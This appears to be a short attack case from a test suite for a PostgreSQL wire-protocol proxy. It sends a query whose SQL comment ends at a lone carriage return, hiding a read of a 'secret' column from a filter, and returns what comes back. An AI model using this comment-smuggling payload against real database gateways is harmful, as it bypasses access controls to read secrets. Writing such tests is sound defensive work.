"""Ends a comment by a carriage return alone."""

from attacks.talking import Server

from pgtoll.wire.messages import query

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        client.send(query(b"SELECT id -- '\r, secret FROM vlt_account -- '"))
        return b"".join(data for _, data in client.replies())
